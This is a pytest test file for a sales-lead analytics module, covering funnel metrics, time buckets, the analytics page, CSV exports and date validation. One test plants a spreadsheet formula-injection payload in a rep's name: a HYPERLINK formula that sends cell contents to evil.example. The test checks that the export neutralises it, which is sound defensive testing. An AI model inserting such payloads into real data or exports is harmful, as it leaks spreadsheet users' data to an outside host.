"""Analytics on a small known data set: exact funnel figures per source and per rep, medians, periods, buckets,
the page with its charts, and CSV exports."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
import sqlalchemy as sa

from core import analytics
from core.ingest import ingest
from core.models import Contact
from core.qualification import save_ruleset, set_stage, update_bant
from core.schemas import InboundRecord
from core.scoring import DEFAULT_RULESET
from core.users import create_user


def _lead(session, key: str, channel: str, created: datetime, response_seconds: int | None, owner: int | None) -> int:  # noqa: ANN001
    t0 = created + timedelta(hours=1)
    record = {"channel": channel, "contact": {"name": key, "email": f"{key}@example.com"},
              "message": {"external_id": f"{key}-in", "text": "hello", "sent_at": t0.isoformat()}}
    cid = ingest(session, InboundRecord.model_validate(record)).contact_id
    if response_seconds is not None:
        reply = {"channel": channel, "contact": {"email": f"{key}@example.com"},
                 "message": {"external_id": f"{key}-out", "direction": "out", "text": "hi",
                             "sent_at": (t0 + timedelta(seconds=response_seconds)).isoformat()}}
        ingest(session, InboundRecord.model_validate(reply))
    session.execute(sa.update(Contact).where(Contact.id == cid).values(created_at=created, owner_id=owner))
    return cid


@pytest.fixture
def dataset(app, session) -> dict[str, int]:  # noqa: ANN001
    # Thresholds out of reach: only people move stages in this data set.
    save_ruleset(session, {**DEFAULT_RULESET, "thresholds": {"mql": 1000, "sql": 2000}}, actor="t")
    rep1 = create_user(session, email="r1@x.pl", role="rep", name="Rep One").id
    rep2 = create_user(session, email="r2@x.pl", role="rep", name="Rep Two").id
    october, november = datetime(2026, 10, 5, 8, tzinfo=UTC), datetime(2026, 11, 4, 8, tzinfo=UTC)
    ids = {
        "a": _lead(session, "a", "gmail", october, 600, rep1),
        "b": _lead(session, "b", "gmail", october, 1200, rep1),
        "c": _lead(session, "c", "gmail", october, 3600, rep2),
        "d": _lead(session, "d", "gmail", october, None, rep2),
        "e": _lead(session, "e", "form", november, 60, rep1),
        "f": _lead(session, "f", "form", november, 120, None),
        "g": _lead(session, "g", "linkedin", datetime(2025, 1, 15, tzinfo=UTC), None, None),
    }
    for key, stages in {"a": ["mql", "sql", "customer"], "b": ["mql", "sql"], "c": ["mql"], "e": ["customer"]}.items():
        for stage in stages:
            set_stage(session, ids[key], stage=stage, actor="t")
    set_stage(session, ids["f"], stage="non_target", reason="spam", actor="t")
    update_bant(session, ids["a"], {"deal_value": 1000.0}, actor="t")
    update_bant(session, ids["e"], {"deal_value": 500.0}, actor="t")
    update_bant(session, ids["b"], {"deal_value": 777.0}, actor="t")  # not a customer: not counted as won value
    session.commit()
    return {**ids, "rep1": rep1, "rep2": rep2}


def _by(rows: list[dict], key: str = "key") -> dict:
    return {r[key]: r for r in rows}


def test_funnel_by_source(session, dataset):
    rows = _by(analytics.funnel(session, group="source"))
    gmail, form, linkedin = rows["gmail"], rows["form"], rows["linkedin"]
    assert (gmail["leads"], gmail["mql"], gmail["sql"], gmail["customers"], gmail["non_target"]) == (4, 3, 2, 1, 0)
    assert (gmail["lead_to_mql"], gmail["mql_to_sql"], gmail["sql_to_customer"]) == (0.75, 0.6667, 0.5)
    assert (gmail["lead_quality"], gmail["deal_value"], gmail["median_response_seconds"]) == (0.25, 1000.0, 1200.0)
    # A jump from new to customer counts at every step on the way.
    assert (form["leads"], form["mql"], form["sql"], form["customers"], form["non_target"]) == (2, 1, 1, 1, 1)
    assert (form["lead_quality"], form["deal_value"], form["median_response_seconds"]) == (0.5, 500.0, 90.0)
    assert (linkedin["leads"], linkedin["mql"], linkedin["lead_to_mql"], linkedin["median_response_seconds"]) == (
        1, 0, 0.0, None)
    total = analytics.totals(list(rows.values()))
    assert (total["leads"], total["mql"], total["sql"], total["customers"], total["deal_value"]) == (7, 4, 3, 2, 1500.0)


def test_funnel_by_rep_and_period(session, dataset):
    rows = _by(analytics.funnel(session, group="owner"))
    one, two, nobody = rows[dataset["rep1"]], rows[dataset["rep2"]], rows[None]
    assert (one["label"], one["leads"], one["mql"], one["sql"], one["customers"]) == ("Rep One", 3, 3, 3, 2)
    assert (one["deal_value"], one["median_response_seconds"]) == (1500.0, 600.0)
    assert (two["leads"], two["mql"], two["sql"], two["median_response_seconds"]) == (2, 1, 0, 3600.0)
    assert (nobody["label"], nobody["leads"], nobody["non_target"], nobody["median_response_seconds"]) == (
        "unassigned", 2, 1, 120.0)
    recent = _by(analytics.funnel(session, period=analytics.Period(start=datetime(2026, 1, 1, tzinfo=UTC))))
    assert set(recent) == {"gmail", "form"}
    november = _by(analytics.funnel(session, period=analytics.Period(datetime(2026, 11, 1, tzinfo=UTC),
                                                                      datetime(2026, 12, 1, tzinfo=UTC))))
    assert set(november) == {"form"} and november["form"]["leads"] == 2


def test_leads_over_time(session, dataset):
    months = analytics.leads_over_time(session, bucket="month")
    assert [(r["bucket"], r["source"], r["leads"]) for r in months] == [
        ("2025-01-01", "linkedin", 1), ("2026-10-01", "gmail", 4), ("2026-11-01", "form", 2)]
    weeks = analytics.leads_over_time(session, bucket="week")
    assert [(r["bucket"], r["leads"]) for r in weeks] == [("2025-01-13", 1), ("2026-10-05", 4), ("2026-11-02", 2)]
    days = analytics.leads_over_time(session, bucket="day", period=analytics.Period(datetime(2026, 11, 1, tzinfo=UTC)))
    assert [(r["bucket"], r["leads"]) for r in days] == [("2026-11-04", 2)]


def _login(app, client, email: str, password: str, role: str, session) -> None:  # noqa: ANN001
    app.config["WTF_CSRF_ENABLED"] = False
    create_user(session, email=email, role=role, name=role, password=password)
    session.commit()
    assert client.post("/login", data={"email": email, "password": password}).status_code == 302


def test_analytics_page_and_csv(app, client, session, dataset):
    _login(app, client, "boss@x.pl", "boss-password", "manager", session)
    page = client.get("/analytics?bucket=month")
    assert page.status_code == 200
    html = page.data.decode()
    # Charts are inline SVG; the only script on the page is the app's own, served locally (no CDN).
    import re

    assert html.count("<svg") == 2 and "cdn" not in html.lower()
    assert re.findall(r"<script[^>]*>", html) == ['<script src="/static/app.js" defer>']
    assert "Rep One" in html and "gmail" in html
    sources = list(csv.reader(io.StringIO(client.get("/analytics/sources.csv").data.decode())))
    assert sources[0][:5] == ["source", "leads", "mql", "sql", "customers"]
    assert ["gmail", "4", "3", "2", "1"] == sources[1][:5]
    reps = list(csv.reader(io.StringIO(client.get("/analytics/reps.csv").data.decode())))
    assert {r[0] for r in reps[1:]} == {"Rep One", "Rep Two", "unassigned"}
    over = list(csv.reader(io.StringIO(client.get("/analytics/leads_over_time.csv?bucket=month").data.decode())))
    assert over[1:] == [["2025-01-01", "linkedin", "1"], ["2026-10-01", "gmail", "4"], ["2026-11-01", "form", "2"]]
    assert client.get("/analytics?from=yesterday").status_code == 400
    assert client.get("/analytics/nothing.csv").status_code == 404
    filtered = client.get("/analytics/sources.csv?from=2026-11-01&to=2026-11-30").data.decode()
    assert "gmail" not in filtered and "form" in filtered


def test_reps_cannot_see_analytics(app, client, session):
    _login(app, client, "rep9@x.pl", "rep-password", "rep", session)
    assert client.get("/analytics").status_code == 403



def test_csv_cells_that_a_spreadsheet_would_run_are_text(app, client, session, dataset) -> None:  # noqa: ANN001
    from core.models import User

    rep = session.get(User, dataset["rep1"])
    rep.name = '=HYPERLINK("http://evil.example/?"&A1,"Rep One")'
    session.add(rep)
    session.commit()
    _login(app, client, "boss@x.pl", "boss-password", "manager", session)
    reps = list(csv.reader(io.StringIO(client.get("/analytics/reps.csv").data.decode())))
    assert """'=HYPERLINK("http://evil.example/?"&A1,"Rep One")""" in {r[0] for r in reps[1:]}
    assert all(not cell.startswith(("=", "+", "@")) for row in reps for cell in row)


def test_a_period_the_page_cannot_read_is_shown_again_with_its_error_not_a_500(app, client, session, dataset):
    """"to" = 9999-12-31 overflowed the period's end (the day after) into a 500, as did a "table" parameter, which
    the CSV links passed on to url_for beside their own. A bad date was a bare 400 page that lost what was typed."""
    _login(app, client, "boss@x.pl", "boss-password", "manager", session)
    for query in ("to=9999-12-31", "from=0001-01-01&to=9999-12-31", "bucket=day&to=9999-12-31"):
        assert client.get(f"/analytics?{query}").status_code == 400, query
        assert client.get(f"/analytics/sources.csv?{query}").status_code == 400, query
    page = client.get("/analytics?from=2026-11-01&to=9999-12-31")
    html = page.data.decode()
    assert 'name="from" value="2026-11-01"' in html and 'name="to" value="9999-12-31" aria-invalid="true"' in html
    assert 'data-field="to"' in html and "To must be a date before 9999-12-31" in html
    # The figures and the CSV links keep the part that could be read.
    assert "/analytics/sources.csv?from=2026-11-01&amp;bucket=week" in html
    backwards = client.get("/analytics?from=2026-11-30&to=2026-11-01").data.decode()
    assert "To must not be before From" in backwards
    for extra in ("table=x", "_external=1", "_anchor=x", "_method=POST", "bucket=month&table=reps"):
        page = client.get(f"/analytics?{extra}")
        assert page.status_code == 200, extra
        assert "/analytics/sources.csv?bucket=" in page.data.decode(), extra
